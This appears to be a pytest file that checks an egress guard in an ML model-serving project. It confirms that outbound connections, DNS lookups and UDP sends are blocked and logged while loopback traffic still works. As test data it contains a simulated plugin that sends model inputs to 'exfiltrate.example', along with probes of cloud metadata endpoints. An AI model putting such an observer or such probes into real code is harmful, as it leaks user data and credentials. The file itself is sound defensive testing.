"""The egress guard, in a subprocess: audit hooks cannot be removed from the test process."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from insitu.workspace import Workspace

REPO = Path(__file__).resolve().parents[2]

SERVING_PROCESS = textwrap.dedent(
    """
    import asyncio, json, socket, sys, urllib.request
    from pathlib import Path

    import httpx

    from insitu.errors import EgressBlockedError
    from insitu.serve import running
    from tests.bundle._models import mlp
    from tests.serve.conftest import WIDTHS, make_site

    site = make_site(Path(sys.argv[1]), mlp(WIDTHS)[0])
    outcome = {}

    def attempt(name, call):
        try:
            call()
            outcome[name] = "allowed"
        except EgressBlockedError:
            outcome[name] = "blocked"
        except Exception as exc:
            outcome[name] = f"{type(exc).__name__}: {exc}"

    def phone_home(model, version, inputs, outputs):
        # A plugin that leaks what the model sees: the guard stops it.
        urllib.request.urlopen("http://exfiltrate.example/collect", timeout=2)

    async def on_the_serving_loop():
        # Code on the server's own event loop (a route, a background task, a plugin's
        # coroutine): under uvloop its connect() and getaddrinfo() never passed through
        # the socket module, so the guard did not see them.
        found = {}
        loop = asyncio.get_running_loop()
        found["loop"] = type(loop).__module__
        for name, make in (
            ("open_connection", lambda: asyncio.open_connection("10.255.255.1", 9)),
            ("loop_getaddrinfo", lambda: loop.getaddrinfo("metadata.google.internal", 80)),
            ("loop_sock_connect", lambda: loop.sock_connect(
                socket.socket(), ("169.254.169.254", 80))),
        ):
            try:
                await asyncio.wait_for(make(), 3)
                found[name] = "allowed"
            except EgressBlockedError:
                found[name] = "blocked"
            except Exception as exc:
                found[name] = f"{type(exc).__name__}: {exc}"
        return found

    with running(site.workspace) as server:
        server.app.state.runtime.add_observer(phone_home)
        server.app.add_api_route("/probe-the-loop", on_the_serving_loop)
        outcome["on_loop"] = httpx.get(server.url + "/probe-the-loop", timeout=20).json()
        attempt("create_connection", lambda: socket.create_connection(("192.0.2.10", 443), 2))
        attempt("getaddrinfo", lambda: socket.getaddrinfo("pypi.org", 443))
        attempt("gethostbyname", lambda: socket.gethostbyname("example.com"))
        attempt("udp_sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"x", ("198.51.100.7", 53)))
        attempt("httpx_external", lambda: httpx.get("http://203.0.113.5/", timeout=2))
        attempt("loopback_connection", lambda: socket.create_connection(
            ("127.0.0.1", int(server.url.rsplit(":", 1)[1])), 2).close())
        response = httpx.post(server.url + "/v1/models/mlp/predict", headers=server.headers,
                              json={"inputs": [[0.5] * 8]})
        outcome["loopback_predict"] = response.status_code
    attempt("after_serving", lambda: socket.getaddrinfo("localhost", 80))
    print(json.dumps(outcome))
    """
)


STRACE = shutil.which("strace")


@pytest.fixture(scope="module")
def serving_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, object], Path]:
    """The serving process's outcome and home; its syscalls in ``home/../syscalls.txt``."""
    home = tmp_path_factory.mktemp("egress") / "site"
    env = dict(os.environ, PYTHONPATH=str(REPO))
    # The syscall trace is the ground truth: a refusal must come before connect(2).
    trace = ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-o",
             str(home.parent / "syscalls.txt")] if STRACE else []  # fmt: skip
    result = subprocess.run(
        [*trace, sys.executable, "-c", SERVING_PROCESS, str(home)],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1]), home


def test_guard_blocks_connections_and_lookups_to_other_hosts(
    serving_run: tuple[dict[str, object], Path],
) -> None:
    outcome, _ = serving_run
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "udp_sendto"):
        assert outcome[name] == "blocked", name
    # httpx turns the refusal (an OSError) into its own ConnectError: still no traffic.
    assert "egress guard" in str(outcome["httpx_external"])


def test_loopback_still_works_while_guarded(serving_run: tuple[dict[str, object], Path]) -> None:
    outcome, _ = serving_run
    assert outcome["loopback_connection"] == "allowed"
    assert outcome["loopback_predict"] == 200  # the exfiltrating observer did not break it
    assert outcome["after_serving"] == "allowed"


def test_ledger_records_each_blocked_attempt(serving_run: tuple[dict[str, object], Path]) -> None:
    _, home = serving_run
    with Workspace.open(home).ledger() as ledger:
        assert ledger.verify().entries > 0
        blocked = {
            (e.payload["event"], e.payload["destination"])
            for e in ledger.entries(event_type="egress.blocked")
        }
    assert ("socket.connect", "192.0.2.10") in blocked
    assert ("socket.getaddrinfo", "pypi.org") in blocked
    assert ("socket.gethostbyname", "example.com") in blocked
    assert ("socket.sendto", "198.51.100.7") in blocked
    assert ("socket.getaddrinfo", "exfiltrate.example") in blocked
    assert not any(dest.startswith("127.") for _, dest in blocked)


def test_attack_egress_on_the_event_loop(serving_run: tuple[dict[str, object], Path]) -> None:
    outcome, home = serving_run
    on_loop = outcome["on_loop"]
    assert isinstance(on_loop, dict)
    assert on_loop["loop"] == "asyncio.unix_events"  # CPython's loop, not uvloop
    for name in ("open_connection", "loop_getaddrinfo", "loop_sock_connect"):
        assert on_loop[name] == "blocked", (name, on_loop[name])
    with Workspace.open(home).ledger() as ledger:
        blocked = {
            (e.payload["event"], e.payload["destination"])
            for e in ledger.entries(event_type="egress.blocked")
        }
    assert ("socket.connect", "10.255.255.1") in blocked
    assert ("socket.getaddrinfo", "metadata.google.internal") in blocked
    assert ("socket.connect", "169.254.169.254") in blocked


@pytest.mark.skipif(STRACE is None, reason="strace is not installed")
def test_attack_egress_leaves_no_connect_syscall(
    serving_run: tuple[dict[str, object], Path],
) -> None:
    _, home = serving_run
    calls = (home.parent / "syscalls.txt").read_text()
    addresses = set(re.findall(r'inet_addr\("([0-9.]+)"\)', calls))
    assert addresses, "the trace saw no connect() at all: strace did not follow the process"
    assert addresses <= {"127.0.0.1", "0.0.0.0"}, addresses
    assert "htons(53)" not in calls  # no DNS query left the process
